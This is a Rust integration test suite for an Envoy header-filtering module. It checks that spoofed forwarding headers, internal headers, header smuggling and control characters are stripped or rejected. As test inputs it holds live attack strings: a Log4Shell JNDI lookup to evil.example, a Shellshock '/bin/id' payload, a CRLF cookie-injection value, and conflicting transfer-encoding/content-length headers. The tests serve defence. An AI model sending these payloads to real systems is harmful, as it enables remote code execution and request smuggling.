//! header-guard in a real Envoy: what the client gets and what the upstream saw.
//!
//! Each test that sends something Envoy's own HTTP/1 codec could refuse says which layer
//! stopped it: a portcullis `application/problem+json` body with a `header_guard.*` code (and the
//! module's counter) means header-guard; a plain `Bad Request` body means Envoy's codec.

mod support;

use serde_json::json;
use support::*;

fn start(policy: &str) -> Envoy {
    envoy().wasm("header-guard", policy).start()
}

/// A Lua filter before header-guard that adds what a client could never send over HTTP/1:
/// the request "arrived another way" (another filter, a codec that allows it).
fn lua_adds(script: &str) -> serde_json::Value {
    json!({"name": "envoy.filters.http.lua", "typed_config": {
        "@type": "type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua",
        "default_source_code": {"inline_string": format!("function envoy_on_request(h)\n local hd = h:headers()\n {script}\nend")}
    }})
}

#[test]
fn a_plain_request_passes_the_default_policy_with_the_headers_envoy_added() {
    // curl's default headers; Envoy adds x-forwarded-proto and x-request-id before filters run.
    let e = start("{}");
    let r = e.get(
        "/orders",
        &[("user-agent", "curl/8.5.0"), ("accept", "*/*")],
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let seen = e.upstream_seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].header("x-forwarded-proto"), Some("http"));
    assert!(seen[0].header("x-request-id").is_some());
    assert_eq!(seen[0].header("user-agent"), Some("curl/8.5.0"));
    assert_eq!(e.counter("header_guard", "allowed", "ok"), 1);
    // And a body-carrying request (Content-Length) and a chunked one.
    let r = e.post("/orders", &[("content-type", "application/json")], b"{}");
    assert_eq!(r.status, 200, "{}", r.text());
    let chunked = b"POST /orders HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n2\r\n{}\r\n0\r\n\r\n";
    assert_eq!(e.raw(chunked).status, 200);
    assert_eq!(e.upstream_seen()[2].body, "{}");
    assert_eq!(e.counter("header_guard", "allowed", "ok"), 3);
}

#[test]
fn spoofed_forwarding_and_override_headers_never_reach_the_upstream() {
    // Override headers are refused before any module by default (tests/routing.rs); stripped,
    // they must not reach the upstream either.
    let e = start(r#"{"method_override": "strip"}"#);
    let r = e.get(
        "/reset-password",
        &[
            ("x-forwarded-host", "evil.example"),
            ("x-real-ip", "127.0.0.1"),
            ("true-client-ip", "10.0.0.1"),
            ("forwarded", "for=127.0.0.1;host=evil.example"),
            ("x-original-url", "/admin"),
            ("x-rewrite-url", "/admin"),
            ("x-http-method-override", "DELETE"),
            ("accept", "*/*"),
        ],
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let seen = &e.upstream_seen()[0];
    for h in [
        "x-forwarded-host",
        "x-real-ip",
        "true-client-ip",
        "forwarded",
        "x-original-url",
        "x-rewrite-url",
        "x-http-method-override",
    ] {
        assert_eq!(seen.header(h), None, "{h} reached the upstream");
    }
    assert_eq!(seen.header("accept"), Some("*/*"));
    assert_eq!(seen.path, "/reset-password");
}

#[test]
fn internal_headers_never_reach_the_upstream() {
    let e = start(r#"{"default": {"internal_headers": ["@default", "x-acme-*"]}}"#);
    let r = e.get(
        "/orders",
        &[
            ("x-internal-user", "admin"),
            ("x-jwt-sub", "alice"),
            ("x-jwt-scope", "admin"),
            ("x-apikey-client", "billing"),
            ("x-portcullis-route", "x"),
            ("x-acme-role", "root"),
            ("x-request-source", "kept"),
        ],
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let seen = &e.upstream_seen()[0];
    let leaked: Vec<_> = seen
        .headers
        .iter()
        .filter(|(k, _)| {
            [
                "x-internal-",
                "x-jwt-",
                "x-apikey-",
                "x-portcullis-",
                "x-acme-",
            ]
            .iter()
            .any(|p| k.starts_with(p))
        })
        .collect();
    assert!(leaked.is_empty(), "{leaked:?}");
    assert_eq!(seen.header("x-request-source"), Some("kept"));
}

#[test]
fn reject_is_opt_in_per_header() {
    let e = start(r#"{"default": {"reject_headers": ["x-original-url"]}}"#);
    let r = e.get("/", &[("x-original-url", "/admin")]);
    r.assert_problem(400, "header_guard.spoofed_header");
    assert!(e.upstream_seen().is_empty());
    assert_eq!(
        e.counter("header_guard", "denied", "header_guard.spoofed_header"),
        1
    );
    // Headers that stay on the strip list are still only stripped.
    assert_eq!(e.get("/", &[("x-real-ip", "1.2.3.4")]).status, 200);
    assert_eq!(e.upstream_seen()[0].header("x-real-ip"), None);
}

// Why x-forwarded-proto may not be stripped or rejected, and the policy that tries being
// refused: tests/forwarding.rs.

#[test]
fn report_mode_passes_unchanged_and_counts() {
    let e = start(r#"{"default": {"mode": "report"}}"#);
    let r = e.get(
        "/orders",
        &[
            ("user-agent", "${jndi:ldap://evil.example/a}"),
            ("x-request-id", "abc%0d%0aset-cookie:x=1"),
            ("x-internal-user", "admin"),
            ("x-forwarded-host", "evil.example"),
        ],
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let seen = &e.upstream_seen()[0];
    assert_eq!(
        seen.header("user-agent"),
        Some("${jndi:ldap://evil.example/a}")
    );
    assert_eq!(
        seen.header("x-internal-user"),
        Some("admin"),
        "report mode strips nothing"
    );
    assert_eq!(seen.header("x-forwarded-host"), Some("evil.example"));
    for code in [
        "header_guard.encoded_crlf",
        "header_guard.denied_pattern",
        "header_guard.internal_header",
        "header_guard.spoofed_header",
    ] {
        assert_eq!(e.counter("header_guard", "reported", code), 1, "{code}");
    }
    assert_eq!(
        e.counter("header_guard", "denied", "header_guard.denied_pattern"),
        0
    );
    let log = e.log();
    assert!(
        log.contains(r#""module":"header_guard","code":"header_guard.denied_pattern""#),
        "{log}"
    );
}

#[test]
fn host_allow_list_is_421_and_the_upstream_sees_nothing() {
    let e = start(r#"{"default": {"hosts": ["api.example.com", "*.apps.example.com"]}}"#);
    assert_eq!(e.get("/", &[("host", "api.example.com")]).status, 200);
    assert_eq!(
        e.get("/", &[("host", "a.apps.example.com:8080")]).status,
        200
    );
    let r = e.get("/", &[("host", "evil.example")]);
    r.assert_problem(421, "header_guard.host_not_allowed");
    assert_eq!(r.json()["title"], "Misdirected Request");
    // Absolute-form target: Envoy takes the authority from the request line.
    let r = e.raw(
        b"GET http://evil.example/ HTTP/1.1\r\nhost: api.example.com\r\nconnection: close\r\n\r\n",
    );
    r.assert_problem(421, "header_guard.host_not_allowed");
    assert_eq!(e.upstream_seen().len(), 2);
    assert_eq!(
        e.counter("header_guard", "denied", "header_guard.host_not_allowed"),
        2
    );
}

#[test]
fn response_fingerprints_are_removed_and_security_headers_set() {
    let e = start("{}");
    let r = e.get(
        "/",
        &[
            ("x-echo-header", "x-powered-by: PHP/5.3.2"),
            ("x-echo-header", "x-aspnet-version: 4.0.30319"),
        ],
    );
    assert_eq!(r.status, 200);
    assert_eq!(
        r.header("server"),
        None,
        "tiny-http's own Server header is removed"
    );
    assert_eq!(r.header("x-powered-by"), None);
    assert_eq!(r.header("x-aspnet-version"), None);
    assert_eq!(r.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(
        r.header("strict-transport-security"),
        Some("max-age=31536000; includeSubDomains")
    );
    assert_eq!(r.header("x-frame-options"), Some("DENY"));
    assert_eq!(r.header("referrer-policy"), Some("no-referrer"));
    // header-guard's own denials carry the security headers too.
    let d = e.get("/", &[("user-agent", "() { :; }; /bin/id")]);
    d.assert_problem(400, "header_guard.denied_pattern");
    assert_eq!(d.header("x-content-type-options"), Some("nosniff"));
}

#[test]
fn another_path_a_control_character_added_by_a_filter_is_stopped_by_header_guard() {
    // Envoy's HTTP/1 codec refuses \x01 from a client (400, see attacks_header_guard.rs); a filter
    // can still add it (and CR/LF: see attacks_header_guard.rs).
    let e = envoy()
        .native_filter(lua_adds("hd:add('x-added', 'a\\1b')"))
        .wasm("header-guard", "{}")
        .start();
    e.get("/", &[])
        .assert_problem(400, "header_guard.invalid_value");
    assert!(e.upstream_seen().is_empty());
    assert_eq!(
        e.counter("header_guard", "denied", "header_guard.invalid_value"),
        1
    );
}

#[test]
fn another_path_smuggling_headers_added_by_a_filter_are_stopped_by_header_guard() {
    // Without header-guard these reach the upstream as they are (measured: `transfer-encoding:
    // xchunked` next to `content-length: 3`, and `content-length: 3,5`).
    let e = envoy()
        .native_filter(lua_adds(
            "local v = hd:get('x-case')\n if v == 'te' then hd:add('transfer-encoding', 'xchunked') end\n if v == 'cl' then hd:add('content-length', '5') end",
        ))
        .wasm("header-guard", "{}")
        .start();
    e.post("/", &[("x-case", "te")], b"abc")
        .assert_problem(400, "header_guard.cl_and_te");
    e.post("/", &[("x-case", "cl")], b"abc")
        .assert_problem(400, "header_guard.bad_content_length");
    assert!(e.upstream_seen().is_empty());
    assert_eq!(
        e.counter("header_guard", "denied", "header_guard.cl_and_te"),
        1
    );
    assert_eq!(
        e.counter("header_guard", "denied", "header_guard.bad_content_length"),
        1
    );
}

#[test]
fn per_route_rules_pick_the_policy() {
    let e = start(
        // Each rule is complete on its own: a route does not inherit from `default`.
        r#"{"routes": [{"match": {"prefix": "/legacy"}, "mode": "report", "limits": {"max_value_bytes": 64}}],
            "default": {"limits": {"max_value_bytes": 64}}}"#,
    );
    let long = "a".repeat(100);
    assert_eq!(e.get("/legacy/x", &[("x-long", &long)]).status, 200);
    e.get("/orders", &[("x-long", &long)])
        .assert_problem(431, "header_guard.value_too_long");
    assert_eq!(e.upstream_seen().len(), 1);
    assert_eq!(
        e.counter("header_guard", "reported", "header_guard.value_too_long"),
        1
    );
}

#[test]
fn in_a_guard_chain_header_guard_strips_before_the_next_member() {
    let policy =
        r#"{"chain": ["header_guard", "content_type"], "header_guard": {}, "content_type": {}}"#;
    let e = envoy().wasm("guard", policy).start();
    let r = e.post(
        "/orders",
        &[("content-type", "application/json"), ("x-jwt-sub", "admin")],
        b"{}",
    );
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(e.upstream_seen()[0].header("x-jwt-sub"), None);
    e.get("/", &[("user-agent", "${jndi:ldap://x/a}")])
        .assert_problem(400, "header_guard.denied_pattern");
    assert_eq!(
        e.counter("guard", "denied", "header_guard.denied_pattern"),
        1
    );
}
